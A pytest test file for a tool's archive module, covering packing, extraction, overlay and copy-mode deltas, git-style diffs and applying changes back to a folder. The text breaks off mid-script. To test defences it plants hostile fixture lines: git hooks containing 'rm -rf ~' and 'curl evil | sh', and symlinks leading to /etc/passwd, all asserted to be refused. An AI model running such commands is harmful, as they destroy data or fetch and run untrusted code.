"""Trees <-> tars for environments (issue 28 items 1 and 4): packing an upload, unpacking it,
an environment's changes against its base (copy and overlay), the diff a turn carries, and
applying the changes back to the user's folder. The hostile tars are in test_archive_hostile.py."""

from __future__ import annotations

import hashlib
import io
import os
import shutil
import subprocess
import sys
import tarfile
import textwrap
from pathlib import Path

import pytest

from toolq.core.environments import MAX_PATCH_BYTES, Checkpoint
from toolq.workers.environments.archive import (
    ArchiveError,
    BaseTree,
    Delta,
    Entry,
    Limits,
    apply_delta,
    extract,
    manifest_from_json,
    manifest_of,
    manifest_to_json,
    pack_dir,
    tree_delta,
    unified_diff,
)

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (mknod, trusted.* xattrs, mount)")


def _write(root: Path, files: dict[str, str | bytes]) -> None:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, str):
            path.write_text(content)
        else:
            path.write_bytes(content)


def _project(root: Path) -> Path:
    root.mkdir()
    _write(root, {"README.md": "# demo\n", "src/app.py": "print('hi')\n", "src/data.bin": b"\x00\x01\x02",
                  "docs/a/b/deep.txt": "deep\n"})
    (root / "run.sh").write_text("#!/bin/sh\necho run\n")
    (root / "run.sh").chmod(0o755)
    (root / "empty").mkdir()
    (root / "src" / "link.md").symlink_to("../README.md")
    return root


def _checkpoint(delta: Delta) -> Checkpoint:
    return Checkpoint(base="b" * 64, added=delta.added, changed=delta.changed, deleted=delta.deleted)


# ---- packing and unpacking -----------------------------------------------------------------------

def test_a_folder_round_trips_through_pack_and_extract(tmp_path):
    packed = pack_dir(_project(tmp_path / "p"))
    (tmp_path / "out").mkdir()
    extract(packed.tar, tmp_path / "out")
    assert (tmp_path / "out/src/app.py").read_text() == "print('hi')\n"
    assert (tmp_path / "out/src/data.bin").read_bytes() == b"\x00\x01\x02"
    assert os.readlink(tmp_path / "out/src/link.md") == "../README.md"
    assert (tmp_path / "out/run.sh").stat().st_mode & 0o777 == 0o755
    assert (tmp_path / "out/empty").is_dir()
    assert pack_dir(tmp_path / "out").manifest == packed.manifest == manifest_of(packed.tar)
    assert packed.manifest["src/link.md"] == Entry("symlink", 0o777, target="../README.md")
    assert manifest_from_json(manifest_to_json(packed.manifest)) == packed.manifest


def test_packing_is_deterministic_whatever_the_times_owners_and_special_bits(tmp_path):
    project = _project(tmp_path / "p")
    first = pack_dir(project)
    os.utime(project / "README.md", (1, 1))
    os.chown(project / "src/app.py", 1234, 5678) if os.geteuid() == 0 else None
    (project / "run.sh").chmod(0o4755)  # suid: never carried
    second = pack_dir(project)
    assert first.tar == second.tar and first.blob == second.blob
    with tarfile.open(fileobj=io.BytesIO(second.tar)) as tar:
        members = tar.getmembers()
    assert [m.name for m in members] == sorted((m.name for m in members), key=lambda n: n.split("/"))
    assert {(m.mtime, m.uid, m.gid, m.uname, m.gname) for m in members} == {(0, 0, 0, "", "")}
    assert all(m.mode & 0o7000 == 0 for m in members)


def test_a_symlink_leading_out_of_the_folder_is_refused_by_name(tmp_path):
    project = _project(tmp_path / "p")
    (project / "src/passwd").symlink_to("/etc/passwd")
    with pytest.raises(ArchiveError, match=r"src/passwd -> /etc/passwd leads outside"):
        pack_dir(project)
    (project / "src/passwd").unlink()
    (project / "up").symlink_to("..")
    with pytest.raises(ArchiveError, match=r"the symlink up -> \.\. leads outside"):
        pack_dir(project)


def test_a_folder_past_the_caps_is_refused_with_the_setting_to_raise(tmp_path):
    project = _project(tmp_path / "p")
    with pytest.raises(ArchiveError, match=r"more than 3 files and folders .*TOOLQ_UPLOAD_MAX_FILES"):
        pack_dir(project, Limits(max_bytes=1 << 20, max_files=3))
    (project / "big").write_bytes(b"x" * (2 << 20))
    with pytest.raises(ArchiveError, match=r"more than 1 MB of files \(at big\); TOOLQ_UPLOAD_MAX_MB"):
        pack_dir(project, Limits(max_bytes=1 << 20, max_files=100))


def test_a_fifo_in_the_folder_is_skipped_and_listed_and_dot_git_is_never_packed(tmp_path):
    project = _project(tmp_path / "p")
    os.mkfifo(project / "pipe")
    _write(project, {"vendor/lib/.git/config": "[core]\n", "vendor/lib/x.py": "x = 1\n"})
    packed = pack_dir(project)  # no .git at the top: every file, but never a .git
    assert packed.skipped == ["pipe"]
    assert "vendor/lib/x.py" in packed.manifest
    assert not any(".git" in p.split("/") for p in packed.manifest)


def _git(repo: Path, *argv: str) -> None:
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(repo.parent), "GIT_AUTHOR_NAME": "t",
           "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}
    subprocess.run(["git", *argv], cwd=repo, env=env, check=True, capture_output=True)


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_a_git_checkout_packs_tracked_and_untracked_files_but_not_ignored_ones_nor_git(tmp_path):
    repo = _project(tmp_path / "repo")
    _git(repo, "init", "-q")
    _write(repo, {".gitignore": "*.log\nbuild/\n", "debug.log": "noise\n", "build/out.o": b"\x7fELF"})
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "one")
    _write(repo, {"notes.txt": "untracked, kept\n", "src/trace.log": "ignored\n"})
    (repo / "inner").mkdir()  # an untracked repository inside: git lists it as `inner/`
    _git(repo / "inner", "init", "-q")
    _write(repo, {"inner/lib.py": "y = 2\n"})
    (repo / "README.md").unlink()  # tracked but deleted in the work tree: not there, not packed
    (repo / "src/link.md").unlink()
    # a repository that would run a program on `git status`-like commands: git must not run it
    marker = tmp_path / "fsmonitor-ran"
    hook = tmp_path / "hook.sh"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)
    _git(repo, "config", "core.fsmonitor", str(hook))
    packed = pack_dir(repo)
    names = set(packed.manifest)
    assert {"notes.txt", ".gitignore", "src/app.py", "run.sh", "docs/a/b/deep.txt", "inner/lib.py"} <= names
    assert {"docs", "docs/a", "docs/a/b", "src"} <= names  # the directories on the way
    assert not names & {"debug.log", "build", "build/out.o", "src/trace.log", "README.md", "empty"}
    assert not any(".git" in p.split("/") for p in names)
    assert not marker.exists()


# ---- an environment's changes: copy mode ---------------------------------------------------------

def test_tree_delta_in_copy_mode_lists_added_changed_and_deleted_once(tmp_path):
    packed = pack_dir(_project(tmp_path / "p"))
    env = tmp_path / "env"
    env.mkdir()
    extract(packed.tar, env)
    assert tree_delta(packed.manifest, env) == Delta()  # nothing changed: nothing carried
    (env / "src/app.py").write_text("print('changed')\n")
    (env / "run.sh").chmod(0o644)  # mode only
    shutil.rmtree(env / "docs")
    (env / "src/data.bin").unlink()
    _write(env, {"new/pkg/mod.py": "x = 1\n", "top.txt": "t\n"})
    (env / "made").mkdir()
    (env / "empty").rmdir()
    (env / "empty").write_text("now a file\n")  # a directory became a file
    delta = tree_delta(packed.manifest, env)
    assert delta.added == ["made", "new/pkg/mod.py", "top.txt"]
    assert delta.changed == ["empty", "run.sh", "src/app.py"]
    assert delta.deleted == ["docs", "src/data.bin"]  # docs once, nothing under it
    assert set(manifest_of(delta.tar or b"")) == {"empty", "made", "new", "new/pkg", "new/pkg/mod.py", "run.sh",
                                                  "src/app.py", "top.txt"}
    assert delta.entries["run.sh"].mode == 0o644


def test_tree_delta_refuses_a_change_past_the_caps(tmp_path):
    packed = pack_dir(_project(tmp_path / "p"))
    env = tmp_path / "env"
    env.mkdir()
    extract(packed.tar, env)
    (env / "big").write_bytes(b"x" * 4096)
    with pytest.raises(ArchiveError, match="at big"):
        tree_delta(packed.manifest, env, limits=Limits(max_bytes=1024, max_files=100))
    assert tree_delta(packed.manifest, env, limits=Limits(max_bytes=8192, max_files=100)).added == ["big"]


def test_tree_delta_refuses_a_tree_too_deep_or_too_big_to_walk(tmp_path):
    env = tmp_path / "env"
    os.makedirs(env / ("d/" * 300))  # each level would hold an fd while walked
    with pytest.raises(ArchiveError, match="lies deeper than 256 folders"):
        tree_delta({}, env)
    shutil.rmtree(env / "d")
    _write(env, {f"f{i:02}": "" for i in range(21)})
    empty = Entry("file", 0o644, 0, hashlib.sha256(b"").hexdigest())
    base = {f"f{i:02}": empty for i in range(18)}  # 18 unchanged, 2 added within the cap, then one more
    with pytest.raises(ArchiveError, match="holds more than 20 files and folders"):
        tree_delta(base, env, limits=Limits(max_bytes=1 << 20, max_files=2))


def test_tree_delta_never_follows_a_symlink_the_commands_made(tmp_path):
    packed = pack_dir(_project(tmp_path / "p"))
    env = tmp_path / "env"
    env.mkdir()
    extract(packed.tar, env)
    (env / "etc").symlink_to("/etc")  # like a venv's bin/python -> /usr/bin/python3
    (env / "inside").symlink_to("src")
    delta = tree_delta(packed.manifest, env)
    assert delta.added == ["inside"] and delta.entries["inside"] == Entry("symlink", 0o777, target="src")
    # a link leading out is not carried (no host would unpack the checkpoint): it is said instead
    assert delta.skipped == ["etc (a symlink that leads outside: not carried)"]


# ---- overlay mode --------------------------------------------------------------------------------

_OVERLAY_SCRIPT = textwrap.dedent("""
    import os, shutil, subprocess, sys
    lower, upper, work, merged, extra = sys.argv[1:6]
    done = subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                           f"lowerdir={lower},upperdir={upper},workdir={work}{extra}", merged], capture_output=True)
    if done.returncode:
        print("cannot mount an overlay:", done.stderr.decode().strip()); sys.exit(3)
    m = lambda p: os.path.join(merged, p)
    open(m("src/app.py"), "w").write("print('changed')\\n")
    open(m("README.md"), "a").close()                    # copied up, content and mode unchanged
    os.chmod(m("run.sh"), 0o755)                         # the same mode: copied up, no change
    os.unlink(m("src/data.bin"))                         # a whiteout
    shutil.rmtree(m("docs"))                             # a directory's whiteout
    shutil.rmtree(m("src")); os.mkdir(m("src"))          # an opaque directory
    open(m("src/app.py"), "w").write("print('changed')\\n")
    os.makedirs(m("new/pkg")); open(m("new/pkg/mod.py"), "w").write("x = 1\\n")
    subprocess.run(["umount", merged], check=True)
""")


@pytest.mark.parametrize("how", ["root", "userns"])
def test_tree_delta_reads_a_real_overlay_upper_dir(tmp_path, how):
    if shutil.which("unshare") is None:
        pytest.skip("no unshare")
    if how == "root" and os.geteuid() != 0:
        pytest.skip("mounting an overlay outside a user namespace needs root")
    packed = pack_dir(_project(tmp_path / "p"))
    for name in ("lower", "upper", "work", "merged"):
        (tmp_path / name).mkdir()
    extract(packed.tar, tmp_path / "lower")
    unshare = ["unshare", "-m"] if how == "root" else ["unshare", "-Urm"]
    extra = "" if how == "root" else ",userxattr"
    done = subprocess.run([*unshare, sys.executable, "-c", _OVERLAY_SCRIPT, *(str(tmp_path / n) for n in
                           ("lower", "upper", "work", "merged")), extra], capture_output=True, text=True)
    if done.returncode == 3 or "unshare" in done.stderr and done.returncode:
        pytest.skip(f"overlay cannot be mounted here: {(done.stdout + done.stderr).strip()[:200]}")
    assert done.returncode == 0, done.stdout + done.stderr
    delta = tree_delta(packed.manifest, tmp_path / "merged", upper=tmp_path / "upper",
                       xattrs="trusted" if how == "root" else "user")
    assert delta.added == ["new/pkg/mod.py"]
    assert delta.changed == ["src/app.py"]
    assert delta.deleted == ["docs", "src/data.bin", "src/link.md"]  # src is opaque: its old members are gone
    # the same changes made in a copy give the same delta
    copy = tmp_path / "copy"
    copy.mkdir()
    extract(packed.tar, copy)
    shutil.rmtree(copy / "docs")
    shutil.rmtree(copy / "src")
    _write(copy, {"src/app.py": "print('changed')\n", "new/pkg/mod.py": "x = 1\n"})
    assert tree_delta(packed.manifest, copy) == delta


@needs_root
def test_tree_delta_reads_whiteouts_and_opaque_dirs_made_by_hand(tmp_path):
    packed = pack_dir(_project(tmp_path / "p"))
    upper = tmp_path / "upper"
    _write(upper, {"README.md": "# demo\n", "src/app.py": "print('v2')\n"})  # README copied up unchanged
    os.mknod(upper / "run.sh", 0o600 | 0o020000, os.makedev(0, 0))  # a whiteout
    (upper / "docs").mkdir()
    os.setxattr(upper / "docs", "trusted.overlay.opaque", b"y")
    (upper / "docs/fresh.txt").write_text("fresh\n")
    os.mknod(upper / "ghost", 0o600 | 0o020000, os.makedev(0, 0))  # a whiteout of nothing in the base
    delta = tree_delta(packed.manifest, tmp_path / "merged-unused", upper=upper)
    assert delta.added == ["docs/fresh.txt"]
    assert delta.changed == ["src/app.py"]
    assert delta.deleted == ["docs/a", "run.sh"]


def test_only_the_mounts_own_overlay_attributes_are_read(tmp_path):
    """Through a root's overlay (trusted.* attributes) a command may set user.overlay.* on its
    files: they mean nothing to overlayfs, so they are neither whiteouts, nor opaque, nor refused."""
    packed = pack_dir(_project(tmp_path / "p"))
    upper = tmp_path / "upper"
    _write(upper, {"README.md": "", "src/app.py": "print('v2')\n"})
    (upper / "docs").mkdir()
    try:
        os.setxattr(upper / "docs", "user.overlay.opaque", b"y")
        os.setxattr(upper / "README.md", "user.overlay.whiteout", b"")
        os.setxattr(upper / "src/app.py", "user.overlay.metacopy", b"")
    except OSError as e:
        pytest.skip(f"no user.* attributes on this filesystem: {e.strerror}")
    delta = tree_delta(packed.manifest, tmp_path / "merged-unused", upper=upper)  # a root's mount
    assert delta.deleted == [] and delta.changed == ["README.md", "src/app.py"]
    # With `userxattr` they are the mount's own: an opaque docs/, a whiteout, a refused metacopy.
    with pytest.raises(ArchiveError, match="src/app.py with user.overlay.metacopy"):
        tree_delta(packed.manifest, tmp_path / "merged-unused", upper=upper, xattrs="user")
    os.removexattr(upper / "src/app.py", "user.overlay.metacopy")
    delta = tree_delta(packed.manifest, tmp_path / "merged-unused", upper=upper, xattrs="user")
    assert delta.deleted == ["README.md", "docs/a"] and delta.changed == ["src/app.py"]


@needs_root
def test_an_overlay_with_metacopy_files_is_refused(tmp_path):
    packed = pack_dir(_project(tmp_path / "p"))
    upper = tmp_path / "upper"
    _write(upper, {"README.md": ""})
    os.setxattr(upper / "README.md", "trusted.overlay.metacopy", b"")
    with pytest.raises(ArchiveError, match="README.md with trusted.overlay.metacopy"):
        tree_delta(packed.manifest, tmp_path, upper=upper)


# ---- the diff a turn carries ---------------------------------------------------------------------

def _changed_env(tmp_path: Path) -> tuple[bytes, Delta]:
    packed = pack_dir(_project(tmp_path / "p"))
    env = tmp_path / "env"
    env.mkdir()
    extract(packed.tar, env)
    (env / "src/app.py").write_text("print('hi')\nprint('bye')\n")
    (env / "run.sh").chmod(0o644)
    (env / "src/data.bin").write_bytes(b"\x00\x09")
    _write(env, {"new.txt": "no newline"})
    shutil.rmtree(env / "docs")
    return packed.tar, tree_delta(packed.manifest, env)


def test_unified_diff_has_gits_shape(tmp_path):
    base, delta = _changed_env(tmp_path)
    diff = unified_diff(base, delta, "cp1")
    assert diff.checkpoint == "cp1" and not diff.truncated
    assert diff.binary == ["src/data.bin"]
    assert diff.deleted == ["docs"]
    assert diff.patch == textwrap.dedent("""\
        diff --git a/new.txt b/new.txt
        new file mode 100644
        --- /dev/null
        +++ b/new.txt
        @@ -0,0 +1 @@
        +no newline
        \\ No newline at end of file
        diff --git a/run.sh b/run.sh
        old mode 100755
        new mode 100644
        diff --git a/src/app.py b/src/app.py
        --- a/src/app.py
        +++ b/src/app.py
        @@ -1 +1,2 @@
         print('hi')
        +print('bye')
        diff --git a/docs/a/b/deep.txt b/docs/a/b/deep.txt
        deleted file mode 100644
        --- a/docs/a/b/deep.txt
        +++ /dev/null
        @@ -1 +0,0 @@
        -deep
        """)


def test_unified_diff_reads_the_same_from_an_unpacked_base(tmp_path):
    base, delta = _changed_env(tmp_path)
    tree = tmp_path / "cache"
    tree.mkdir()
    manifest = extract(base, tree)
    assert unified_diff(BaseTree(tree, manifest), delta, "cp1") == unified_diff(base, delta, "cp1")
    (tree / "src/app.py").unlink()
    (tree / "src/app.py").symlink_to("/etc/passwd")  # a cache someone tampered with is not followed
    with pytest.raises(ArchiveError, match="cannot read src/app.py in the base"):
        unified_diff(BaseTree(tree, manifest), delta)


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_git_apply_takes_the_patch(tmp_path):
    base, delta = _changed_env(tmp_path)
    patch = tmp_path / "turn.patch"
    patch.write_text(unified_diff(base, delta).patch)
    target = tmp_path / "target"
    target.mkdir()
    extract(base, target)
    done = subprocess.run(["git", "apply", "--check", "-v", str(patch)], cwd=target, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


def test_a_patch_past_the_cap_is_cut_at_a_line_and_marked_truncated(tmp_path):
    env = tmp_path / "env"
    env.mkdir()
    line = "x" * 99 + "\n"
    _write(env, {"a.txt": line * (MAX_PATCH_BYTES // 200), "b.txt": line * (MAX_PATCH_BYTES // 150)})
    diff = unified_diff(None, tree_delta({}, env))
    assert diff.truncated
    assert len(diff.patch.encode()) <= MAX_PATCH_BYTES
    assert diff.patch.startswith("diff --git a/a.txt b/a.txt\n") and diff.patch.endswith("\n")
    assert "diff --git a/b.txt b/b.txt\n" in diff.patch


# ---- applying the changes back -------------------------------------------------------------------

def _uploaded(tmp_path: Path) -> tuple[Path, Path, dict[str, Entry]]:
    folder = _project(tmp_path / "folder")
    packed = pack_dir(folder)
    env = tmp_path / "env"
    env.mkdir()
    extract(packed.tar, env)
    return folder, env, packed.manifest


def test_apply_delta_brings_the_changes_back(tmp_path):
    folder, env, base = _uploaded(tmp_path)
    (env / "src/app.py").write_text("print('patched')\n")
    _write(env, {"created/one.txt": "1\n"})
    (env / "run.sh").chmod(0o700)
    shutil.rmtree(env / "docs")
    (env / "src/link.md").unlink()
    (env / "src/link.md").symlink_to("app.py")
    delta = tree_delta(base, env)
    report = apply_delta(folder, base, _checkpoint(delta), delta.tar)
    assert report.refused == []
    assert pack_dir(folder).manifest == pack_dir(env).manifest
    assert not any(name.startswith(".toolq-apply") for name in os.listdir(folder / "src"))


def test_apply_delta_refuses_what_changed_in_the_folder_meanwhile(tmp_path):
    folder, env, base = _uploaded(tmp_path)
    (env / "src/app.py").write_text("print('from the env')\n")
    (env / "README.md").write_text("# env\n")
    (env / "docs/a/b/deep.txt").unlink()
    _write(env, {"notes.txt": "env notes\n"})
    delta = tree_delta(base, env)
    (folder / "src/app.py").write_text("print('the user edited me')\n")  # meanwhile, in the folder
    (folder / "docs/a/b/deep.txt").write_text("user\n")
    (folder / "notes.txt").write_text("the user's own notes\n")
    report = apply_delta(folder, base, _checkpoint(delta), delta.tar)
    assert sorted(report.refused) == [
        ("docs/a/b/deep.txt", f"it changed in {folder} since the upload"),
        ("notes.txt", f"it exists in {folder} but was not in the upload"),
        ("src/app.py", f"it changed in {folder} since the upload"),
    ]
    assert report.applied == ["README.md"]
    assert (folder / "src/app.py").read_text() == "print('the user edited me')\n"
    assert (folder / "notes.txt").read_text() == "the user's own notes\n"
    assert (folder / "README.md").read_text() == "# env\n"
    assert report.lines()[0].startswith("not applied: ")


def _with_members(delta: Delta, files: dict[str, bytes]) -> Delta:
    """`delta` with more files added: what a poisoned store could hand `--apply` (a checkpoint
    never carries them itself)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as out:
        for member in tarfile.open(fileobj=io.BytesIO(delta.tar or b""), mode="r") if delta.tar else []:
            out.addfile(member, tarfile.open(fileobj=io.BytesIO(delta.tar or b"")).extractfile(member.name))
        dirs = sorted({str(p) for name in files for p in Path(name).parents if str(p) != "."})
        for name in dirs:
            info = tarfile.TarInfo(name)
            info.type, info.mode = tarfile.DIRTYPE, 0o755
            out.addfile(info)
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            out.addfile(info, io.BytesIO(data))
    return Delta(added=[*delta.added, *dirs[:1]], changed=delta.changed, deleted=delta.deleted, tar=buf.getvalue())


def test_a_checkpoint_never_carries_the_workspaces_git(tmp_path):
    """Commands cannot write `.git` (the sandbox keeps it read-only, and makes an empty one where
    there was none): nothing of it is ever a change."""
    _, env, base = _uploaded(tmp_path)
    _write(env, {".git/hooks/post-checkout": "#!/bin/sh\nrm -rf ~\n", "made.txt": "x\n"})
    delta = tree_delta(base, env)
    assert delta.added == ["made.txt"] and ".git" not in (delta.entries or {})


def test_apply_delta_never_writes_into_git_nor_through_a_symlink_in_the_folder(tmp_path):
    folder, env, base = _uploaded(tmp_path)
    _write(env, {"docs/a/b/more.txt": "more\n"})
    delta = _with_members(tree_delta(base, env), {".git/hooks/post-checkout": b"#!/bin/sh\nrm -rf ~\n"})
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.rmtree(folder / "docs/a")
    (folder / "docs/a").symlink_to(outside)  # the user's folder changed: docs/a now leads out
    report = apply_delta(folder, base, _checkpoint(delta), delta.tar)
    refused = dict(report.refused)
    assert refused[".git"] == "it is inside a `.git` directory"
    assert refused["docs/a/b/more.txt"] == "it lies under a symlink or a file in the folder"
    assert not (folder / ".git").exists() and list(outside.iterdir()) == []


def test_apply_delta_never_writes_into_a_git_directory_of_another_name(tmp_path):
    folder, env, base = _uploaded(tmp_path)
    for where in (folder, env):  # a bare repository inside the project (the user's, uploaded)
        _write(where, {"mirror.git/HEAD": "ref: refs/heads/main\n", "mirror.git/objects/.keep": "",
                       "mirror.git/refs/.keep": ""})
    base = pack_dir(folder).manifest
    _write(env, {"mirror.git/hooks/post-update": "#!/bin/sh\ncurl evil | sh\n", "mirror.git/config": "[core]\n"})
    (env / "mirror.git/HEAD").unlink()
    delta = tree_delta(base, env)
    report = apply_delta(folder, base, _checkpoint(delta), delta.tar)
    assert dict(report.refused) == {"mirror.git/HEAD": "it is inside a git directory",
                                    "mirror.git/config": "it is inside a git directory",
                                    "mirror.git/hooks": "it is inside a git directory",
                                    "mirror.git/hooks/post-update": "its folder mirror.git/hooks was not applied"}
    assert (folder / "mirror.git/HEAD").exists() and not (folder / "mirror.git/hooks").exists()


def test_apply_delta_refuses_a_link_that_leads_out_through_the_folders_own_links(tmp_path):
    folder, _, _ = _uploaded(tmp_path)
    (folder / "here").symlink_to(".")
    base = pack_dir(folder).manifest
    # a checkpoint as a hostile host could send it: alone `escape` stays inside; through `here` it leaves
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        link = tarfile.TarInfo("escape")
        link.type, link.linkname = tarfile.SYMTYPE, "here/.."
        tar.addfile(link)
        tar.addfile(tarfile.TarInfo("fine.txt"), io.BytesIO(b""))
    report = apply_delta(folder, base, Checkpoint(base="b", added=["escape", "fine.txt"]), buffer.getvalue())
    assert report.refused == [("escape", f"the symlink leads outside {folder}")]
    assert report.applied == ["fine.txt"]
    assert not (folder / "escape").is_symlink()


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_a_name_with_a_newline_is_quoted_as_git_quotes_it_and_git_dirs_stay_out_of_the_patch(tmp_path):
    env = tmp_path / "env"
    env.mkdir()
    evil = 'evil\n+++ b\t"q"\\'  # a file name may hold anything but `/` and NUL
    _write(env, {evil: "one\n", ".git/hooks/pre-commit": "#!/bin/sh\nrm -rf ~\n", "ok.txt": "ok\n",
                 "sub/.git/hooks/pre-commit": "#!/bin/sh\nrm -rf ~\n"})
    diff = unified_diff(None, tree_delta({}, env))
    assert diff.binary == ["sub/.git/hooks/pre-commit"]  # not in the patch (listed as not in it)
    assert "rm -rf" not in diff.patch  # and the workspace's own .git is no change at all
    quoted = '"a/evil\\n+++ b\\t\\"q\\"\\\\"'
    assert f"diff --git {quoted} {quoted.replace('a/', 'b/', 1)}\n" in diff.patch
    assert not any(line.startswith("+++ b\t") for line in diff.patch.splitlines())
    target = tmp_path / "target"
    target.mkdir()
    (tmp_path / "p.patch").write_text(diff.patch)
    done = subprocess.run(["git", "apply", "-v", str(tmp_path / "p.patch")], cwd=target, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert (target / evil).read_text() == "one\n" and (target / "ok.txt").read_text() == "ok\n"


def test_a_diff_stops_comparing_past_its_budget(tmp_path, monkeypatch):
    from toolq.workers.environments.archive import diff as diff_module

    env = tmp_path / "env"
    env.mkdir()
    _write(env, {"a.txt": "a\n" * 1000, "b.txt": "b\n" * 1000, "c.bin": b"\0"})
    monkeypatch.setattr(diff_module, "MAX_DIFFED_BYTES", 3000)
    diff = unified_diff(None, tree_delta({}, env))
    assert diff.truncated and diff.binary == ["c.bin"]
    assert "a/a.txt" in diff.patch and "b.txt" not in diff.patch


@pytest.mark.skipif(shutil.which("git") is None or os.geteuid() != 0, reason="needs git, and root to give the checkout away")
def test_a_checkout_another_user_owns_is_still_listed_by_git(tmp_path):
    repo = _project(tmp_path / "repo")
    _git(repo, "init", "-q")
    _write(repo, {".gitignore": "*.log\n", "x.log": "ignored\n"})
    for folder, dirs, files in os.walk(repo):
        for name in [folder, *(os.path.join(folder, n) for n in dirs + files)]:
            os.lchown(name, 65534, 65534)
    names = set(pack_dir(repo).manifest)
    assert "src/app.py" in names and "x.log" not in names


def test_names_that_are_not_utf8_never_reach_a_json_record(tmp_path):
    """The records naming files (checkpoints, diffs, replies) are JSON: a name that is not UTF-8 is
    refused in an upload (one line), and not carried (but said) in a checkpoint."""
    project = _project(tmp_path / "p")
    (project / os.fsdecode(b"caf\xe9.txt")).write_text("x\n")
    with pytest.raises(ArchiveError, match=r"^caf\\xe9\.txt in .* has a name that is not UTF-8"):
        pack_dir(project)
    # a base that holds one (a git archive of such a repository), and a command that makes another
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name in ("ok.txt", os.fsdecode(b"old\xff.txt")):
            tar.addfile(tarfile.TarInfo(name), io.BytesIO(b""))
    env = tmp_path / "env"
    env.mkdir()
    base = extract(buffer.getvalue(), env)
    (env / os.fsdecode(b"old\xff.txt")).unlink()
    (env / os.fsdecode(b"new\xfe.txt")).write_text("made by a command\n")
    (env / "ok.txt").write_text("changed\n")
    delta = tree_delta(base, env)
    assert (delta.added, delta.changed, delta.deleted) == ([], ["ok.txt"], [])
    assert delta.skipped == ["new\\xfe.txt (a name that is not UTF-8: not carried)",
                             "old\\xff.txt (deleted; a name that is not UTF-8: not recorded)"]
    diff = unified_diff(buffer.getvalue(), delta, "c")
    assert diff.model_dump_json() and _checkpoint(delta).model_dump_json()
    # a diff of a deleted folder that held one quotes it as git does
    gone = unified_diff(buffer.getvalue(), Delta(deleted=[os.fsdecode(b"old\xff.txt"), "ok.txt"]))
    assert 'diff --git "a/old\\377.txt" "b/old\\377.txt"' in gone.patch


def _random_tree(root: Path, rng, depth: int = 0) -> None:
    for i in range(rng.randint(1, 4)):
        name = f"{rng.choice('abc')}{i}"
        what = rng.random()
        if what < 0.3 and depth < 3:
            (root / name).mkdir()
            _random_tree(root / name, rng, depth + 1)
        elif what < 0.4:
            (root / name).symlink_to(rng.choice([".", "a0", "../" * depth + "top.txt"]))
        else:
            (root / name).write_text(f"{name}\n" * rng.randint(0, 3))
            (root / name).chmod(rng.choice([0o644, 0o755, 0o600]))


def _mutate(root: Path, rng) -> None:
    everything = sorted(root.rglob("*"), key=lambda p: len(p.parts), reverse=True)
    for path in everything:
        if not os.path.lexists(path):
            continue
        roll = rng.random()
        if roll < 0.15:
            shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
        elif roll < 0.25 and path.is_file() and not path.is_symlink():
            path.write_text(path.read_text() + "more\n")
        elif roll < 0.3 and path.is_file() and not path.is_symlink():
            path.unlink()
            path.mkdir()  # a file became a directory
            (path / "inside.txt").write_text("in\n")
        elif roll < 0.35 and path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
            path.write_text("a directory became a file\n")
        elif roll < 0.4 and not path.is_symlink():
            path.chmod(0o700)
    for i in range(rng.randint(0, 3)):
        _write(root, {f"new{i}/n.txt" if i % 2 else f"new{i}.txt": "new\n"})


@pytest.mark.parametrize("seed", range(25))
def test_applying_a_delta_to_a_copy_of_the_base_gives_the_environment(tmp_path, seed):
    import random

    rng = random.Random(seed)
    base_dir = tmp_path / "base"
    base_dir.mkdir()
    (base_dir / "top.txt").write_text("top\n")
    _random_tree(base_dir, rng)
    packed = pack_dir(base_dir)
    env, folder = tmp_path / "env", tmp_path / "folder"
    env.mkdir()
    folder.mkdir()
    extract(packed.tar, env)
    extract(packed.tar, folder)
    _mutate(env, rng)
    delta = tree_delta(packed.manifest, env)
    report = apply_delta(folder, packed.manifest, _checkpoint(delta), delta.tar)
    assert report.refused == []
    assert pack_dir(folder).manifest == pack_dir(env).manifest
    # and the delta is the same whichever way it is read back
    assert Delta.from_checkpoint(_checkpoint(delta), delta.tar).entries == delta.entries


_MUTATE = textwrap.dedent("""
    import os, random, shutil, sys
    from pathlib import Path

    def mutate(root, seed):
        rng = random.Random(seed)
        everything = sorted(Path(root).rglob("*"), key=lambda p: (-len(p.parts), str(p)))
        for path in everything:
            if not os.path.lexists(path):
                continue
            roll = rng.random()
            real_dir = path.is_dir() and not path.is_symlink()
            real_file = path.is_file() and not path.is_symlink()
            if roll < 0.15:
                shutil.rmtree(path) if real_dir else path.unlink()
            elif roll < 0.25 and real_file:
                path.write_text(path.read_text() + "more\\n")
            elif roll < 0.3 and real_file:
                path.unlink(); path.mkdir(); (path / "inside.txt").write_text("in\\n")
            elif roll < 0.35 and real_dir:
                shutil.rmtree(path); path.write_text("a directory became a file\\n")
            elif roll < 0.4 and not path.is_symlink():
                path.chmod(0o700)
            elif roll < 0.45 and real_file:
                open(path, "a").close()  # copied up in an overlay, unchanged
        for i in range(rng.randint(0, 3)):
            target = Path(root, f"new{i}/n.txt" if i % 2 else f"new{i}.txt")
            target.parent.mkdir(exist_ok=True)
            target.write_text("new\\n")

    if __name__ == "__main__":
        lower, upper, work, merged, seed = sys.argv[1:6]
        import subprocess
        done = subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                               f"lowerdir={lower},upperdir={upper},workdir={work}", merged], capture_output=True)
        if done.returncode:
